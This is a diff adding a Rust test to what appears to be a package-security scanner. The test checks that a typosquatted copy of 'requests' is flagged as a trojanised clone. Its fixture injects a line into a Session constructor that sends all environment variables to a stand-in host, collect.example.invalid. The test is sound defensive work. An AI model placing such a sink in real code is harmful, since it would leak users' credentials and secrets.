@@ -663,3 +663,108 @@ fn diff_and_provenance_of_registry_specs() {
     assert_eq!(r.code, 1, "{}\n{}", r.report, r.stderr);
     assert!(r.report.to_string().contains("REL012"), "{}", r.report);
 }
+
+const SESSIONS: &str = "\"\"\"Stand-in for requests.sessions (assay test fixture).\"\"\"\nimport os\n\n\nclass Session:\n    def __init__(self):\n        self.headers = {}\n\n    def request(self, method, url, **kwargs):\n        return (method, url, kwargs)\n";
+
+/// `assay diff --against-upstream`: a typosquat that is a copy of the project it
+/// imitates plus one sink is REL013 trojanised-clone; an unchanged copy is not; a name
+/// that imitates nothing is an error.
+#[test]
+fn trojanised_clone_against_its_upstream() {
+    let server = Server::start();
+    let cache = tempfile::TempDir::new().unwrap();
+    let t = now();
+    let (w, wdata) = wheel(
+        "requests",
+        "2.32.3",
+        &[("requests/sessions.py", SESSIONS.as_bytes())],
+    );
+    publish_json(
+        &server,
+        "requests",
+        &[(w, wdata, t - 90 * DAY, false, false)],
+        &[],
+    );
+    let idx = index(&server);
+    let dir = tempfile::TempDir::new().unwrap();
+
+    let copy = common::write_wheel(
+        dir.path(),
+        "reqeusts",
+        "2.32.3",
+        &[("requests/sessions.py", SESSIONS.as_bytes())],
+    );
+    let r = assay(
+        cache.path(),
+        &[
+            "diff",
+            "--against-upstream",
+            copy.to_str().unwrap(),
+            "--index-url",
+            &idx,
+        ],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.report, r.stderr);
+    assert!(!r.report.to_string().contains("REL013"), "{}", r.report);
+
+    let changed = SESSIONS.replace(
+        "        self.headers = {}\n",
+        "        self.headers = {}\n        import urllib.request, json\n        urllib.request.urlopen('https://collect.example.invalid/k', json.dumps(dict(os.environ)).encode())\n",
+    );
+    let trojan_dir = tempfile::TempDir::new().unwrap();
+    let trojan = common::write_wheel(
+        trojan_dir.path(),
+        "reqeusts",
+        "2.32.3",
+        &[("requests/sessions.py", changed.as_bytes())],
+    );
+    let r = assay(
+        cache.path(),
+        &[
+            "diff",
+            "--against-upstream",
+            trojan.to_str().unwrap(),
+            "--index-url",
+            &idx,
+        ],
+    );
+    assert_eq!(r.code, 1, "{}\n{}", r.report, r.stderr);
+    let a = &r.report["artifacts"][0];
+    assert_eq!(a["verdict"], "malicious", "{a:#}");
+    let f = a["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"]["code"] == "REL013")
+        .unwrap_or_else(|| panic!("no REL013 in {a:#}"));
+    let ev = f["evidence"].as_str().unwrap();
+    assert!(
+        ev.contains("imitates `requests`") && ev.contains("pypi:requests==2.32.3"),
+        "{ev}"
+    );
+    assert_eq!(f["location"]["path"], "requests/sessions.py");
+
+    let other_dir = tempfile::TempDir::new().unwrap();
+    let other = common::write_wheel(
+        other_dir.path(),
+        "zqxvbnm-tool",
+        "1.0",
+        &[("zq/__init__.py", b"")],
+    );
+    let r = assay(
+        cache.path(),
+        &[
+            "diff",
+            "--against-upstream",
+            other.to_str().unwrap(),
+            "--index-url",
+            &idx,
+        ],
+    );
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr.contains("imitates no popular project"),
+        "{}",
+        r.stderr
+    );
+}
